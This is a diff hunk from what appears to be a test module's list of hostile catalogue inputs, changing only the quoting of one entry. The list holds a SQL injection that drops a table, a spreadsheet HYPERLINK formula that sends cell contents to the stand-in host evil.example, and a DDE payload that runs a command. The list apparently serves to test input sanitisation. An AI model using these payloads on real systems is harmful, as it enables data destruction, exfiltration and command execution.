@@ -51,7 +51,7 @@ NAMES = tuple(PARAMS)
 # What a hostile catalogue puts in its text fields.
 INJECTIONS = (
     "Robert'); DROP TABLE products;--",
-    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
     "=1+2",
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "+SUM(A1:A9)",
